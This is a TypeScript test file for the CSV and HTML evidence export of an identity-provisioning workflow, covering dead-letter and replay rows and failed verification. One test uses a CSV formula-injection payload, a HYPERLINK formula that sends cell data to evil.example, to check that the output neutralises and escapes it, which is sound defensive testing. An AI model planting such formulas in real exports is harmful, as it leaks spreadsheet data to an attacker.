import { toCsv } from '../../src/cli/evidence/csv';
import { toHtml } from '../../src/cli/evidence/html';
import { EVIDENCE_COLUMNS, evidenceRows } from '../../src/domain/evidence/report-rows';
import { VerificationResult } from '../../src/domain/evidence/verify-period';
import { newThread, transition } from '../../src/domain/thread';
import { jmlRequest } from '../../dev/harness/requests';

const ok: VerificationResult = { from: '2026-12-01', to: '2026-12-01', ok: true, threadsChecked: 1, eventsChecked: 0, sealsRead: 9, days: [], findings: [] };

/** A joiner that exhausted its retries, was dead-lettered, replayed and then applied and confirmed. */
function replayedThread(requestedBy = 'hr.partner') {
  const request = jmlRequest('joiner', { requestedBy });
  const t = newThread({
    threadKey: `msg_r#${request.requestNumber}`,
    correlationId: 'c-r',
    webhookId: 'msg_r',
    bodyHash: 'h',
    request,
    userKey: request.user.login,
    now: '2026-12-01T09:00:00.000Z',
  });
  transition(t, 'queued', '2026-12-01T09:00:01.000Z');
  transition(t, 'applying', '2026-12-01T09:00:02.000Z', 'attempt 1');
  transition(t, 'dead-lettered', '2026-12-01T09:00:03.000Z', 'Okta answered 503 three times');
  transition(t, 'queued', '2026-12-01T10:00:00.000Z', 'replay 1 requested');
  transition(t, 'applying', '2026-12-01T10:00:01.000Z', 'attempt 2');
  transition(t, 'applied', '2026-12-01T10:00:02.000Z');
  return t;
}

describe('evidence rows', () => {
  test('name dead letters and replays, in time order after the request and its approvals', () => {
    const rows = evidenceRows([replayedThread()], [], ok);
    expect(rows.map((r) => r.kind)).toEqual(['approval', 'request', 'state', 'state', 'state', 'dead-letter', 'replay', 'state', 'state']);
    expect(rows.find((r) => r.kind === 'dead-letter')!.detail).toBe('dead-lettered: Okta answered 503 three times');
    expect(rows.find((r) => r.kind === 'replay')!.detail).toBe('queued: replay 1 requested');
    expect(rows.every((r) => r.verification === 'verified')).toBe(true);
  });

  test('a value a spreadsheet would run as a formula is neutralised in the CSV only; the page escapes it', () => {
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const rows = evidenceRows([replayedThread(hostile)], [], ok);
    const request = rows.find((r) => r.kind === 'request')!;
    expect(request.actor).toBe(hostile);
    const csv = toCsv(rows);
    expect(csv.split('\r\n')[0]).toBe(EVIDENCE_COLUMNS.join(','));
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const html = toHtml(rows, ok, '2026-12-01T12:00:00.000Z');
    expect(html).toContain('=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
    expect(html).not.toMatch(/<(link|img|iframe)\b|src=|https?:\/\/(?!evil\.example)/);
  });

  test('a failed verification shows on the request it concerns and in the banner', () => {
    const t = replayedThread();
    const failed: VerificationResult = {
      ...ok,
      ok: false,
      findings: [
        {
          problem: 'entry-removed',
          requestNumber: t.requestNumber,
          threadKey: t.threadKey,
          ref: 'calls[0]',
          message: `${t.requestNumber}: calls[0] was sealed but is missing from the stored record: removed`,
        },
      ],
    };
    const rows = evidenceRows([t], [], failed);
    expect(rows.every((r) => r.verification.includes('calls[0] was sealed but is missing'))).toBe(true);
    expect(toHtml(rows, failed, 'now')).toContain('Verification FAILED: 1 finding(s).');
  });
});
